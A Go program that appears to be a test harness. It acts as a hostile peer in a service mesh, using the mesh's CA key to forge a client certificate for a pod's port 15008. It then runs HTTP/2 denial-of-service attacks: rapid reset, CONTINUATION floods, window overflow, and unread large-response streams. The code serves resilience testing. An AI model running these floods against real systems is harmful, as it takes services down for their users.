// Command flood is a hostile mesh peer: with a certificate of the mesh's own authority it opens a tunnel to a pod's port
// 15008 and abuses HTTP/2 until it is thrown out or its time is over. It shares no code with the proxies.
package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/url"
	"os"
	"time"

	"golang.org/x/net/http2"
)

// Exit codes: the peer was thrown out, which is right for a flood, or it was still there when its time was over.
const (
	exitThrownOut = 0
	exitUsage     = 64
	exitNoTunnel  = 3
	exitTolerated = 4
)

type hostile struct {
	authority string
	framer    *http2.Framer
	conn      net.Conn
	stream    uint32
}

// turns are what is sent again and again.
var turns = map[string]func(*hostile) error{
	"rapid-reset": func(h *hostile) error {
		if err := h.open(); err != nil {
			return err
		}
		return h.framer.WriteRSTStream(h.stream, http2.ErrCodeCancel)
	},
	"continuation": func(h *hostile) error {
		if h.stream == 0 {
			h.stream = 1
			return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: literal(h.authority)})
		}
		return h.framer.WriteContinuation(h.stream, false, bytes.Repeat([]byte{0x00, 1, 'a', 1, 'b'}, 200))
	},
	"settings": func(h *hostile) error {
		return h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	},
	"ping": func(h *hostile) error { return h.framer.WritePing(false, [8]byte{1}) },
	"window": func(h *hostile) error {
		return h.framer.WriteWindowUpdate(0, 1)
	},
	"window-overflow": func(h *hostile) error { return h.framer.WriteWindowUpdate(0, 1<<31-1) },
	"empty-data": func(h *hostile) error {
		if h.stream == 0 {
			if err := h.open(); err != nil {
				return err
			}
		}
		return h.framer.WriteData(h.stream, false, nil)
	},
	"streams": func(h *hostile) error { return h.open() },
}

// unread asks for large answers on many streams and reads none of them.
const unread = "unread"

func main() {
	caCert := flag.String("ca-cert", "", "PEM of the mesh's root")
	caKey := flag.String("ca-key", "", "PEM of its key")
	address := flag.String("connect", "", "HBONE address, pod-ip:15008")
	authority := flag.String("authority", "", "destination of the CONNECTs, pod-ip:port")
	kind := flag.String("kind", "", "which abuse")
	limit := flag.Duration("limit", 5*time.Second, "how long to go on")
	flag.Parse()
	turn := turns[*kind]
	if turn == nil && *kind != unread || *address == "" {
		flag.Usage()
		os.Exit(exitUsage)
	}
	conn, err := dial(*address, *caCert, *caKey)
	if err != nil {
		fmt.Fprintln(os.Stderr, "flood:", err)
		os.Exit(exitNoTunnel)
	}
	h := &hostile{authority: *authority, framer: http2.NewFramer(conn, conn), conn: conn}
	if *kind == unread {
		err = h.ignore(*limit)
	} else {
		err = h.abuse(turn, *limit)
	}
	if err == nil {
		fmt.Println("tolerated for", *limit)
		os.Exit(exitTolerated)
	}
	fmt.Println("thrown out:", err)
	os.Exit(exitThrownOut)
}

func (h *hostile) abuse(turn func(*hostile) error, limit time.Duration) error {
	gone := make(chan error, 1)
	go func() {
		_, err := io.Copy(io.Discard, h.conn)
		if err == nil {
			err = io.EOF
		}
		gone <- err
	}()
	end := time.Now().Add(limit)
	for n := 0; time.Now().Before(end); n++ {
		select {
		case err := <-gone:
			return fmt.Errorf("after %d turns: %w", n, err)
		default:
		}
		_ = h.conn.SetWriteDeadline(end)
		if err := turn(h); err != nil {
			if time.Now().After(end) {
				return nil
			}
			return fmt.Errorf("after %d turns: %w", n, err)
		}
	}
	return nil
}

// ignore opens streams, asks each for much and never reads.
func (h *hostile) ignore(limit time.Duration) error {
	if err := h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}); err != nil {
		return err
	}
	if err := h.framer.WriteWindowUpdate(0, 1<<31-1-65535); err != nil {
		return err
	}
	for range 90 {
		if err := h.open(); err != nil {
			return err
		}
		request := fmt.Sprintf("GET /?size=8388608 HTTP/1.1\r\nHost: %s\r\n\r\n", h.authority)
		if err := h.framer.WriteData(h.stream, false, []byte(request)); err != nil {
			return err
		}
	}
	time.Sleep(limit)
	return nil
}

func (h *hostile) open() error {
	if h.stream == 0 {
		h.stream = 1
	} else {
		h.stream += 2
	}
	// The dynamic table is not used again: every block stands for itself.
	return h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream, BlockFragment: literal(h.authority), EndHeaders: true})
}

// literal is the request's header block without a dynamic table: fields are not indexed.
func literal(authority string) []byte {
	block := []byte{0x02, 7}
	block = append(block, "CONNECT"...)
	block = append(block, 0x01, byte(len(authority)))
	return append(block, authority...)
}

func dial(address, certFile, keyFile string) (net.Conn, error) {
	pair, err := tls.LoadX509KeyPair(certFile, keyFile)
	if err != nil {
		return nil, err
	}
	root, err := x509.ParseCertificate(pair.Certificate[0])
	if err != nil {
		return nil, err
	}
	own, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	id := &url.URL{Scheme: "spiffe", Host: "cluster.local", Path: "/ns/default/sa/client"}
	template := &x509.Certificate{
		SerialNumber: new(big.Int).SetUint64(binary.BigEndian.Uint64(own.X.Bytes()[:8])),
		NotBefore:    time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
		URIs: []*url.URL{id},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, root, own.Public(), pair.PrivateKey)
	if err != nil {
		return nil, err
	}
	config := &tls.Config{MinVersion: tls.VersionTLS13, NextProtos: []string{"h2"},
		Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: own}},
		// The hostile peer does not care who its victim is.
		InsecureSkipVerify: true}
	raw, err := net.DialTimeout("tcp", address, 5*time.Second)
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, config)
	if err := conn.Handshake(); err != nil {
		return nil, err
	}
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	return conn, http2.NewFramer(conn, conn).WriteSettings()
}
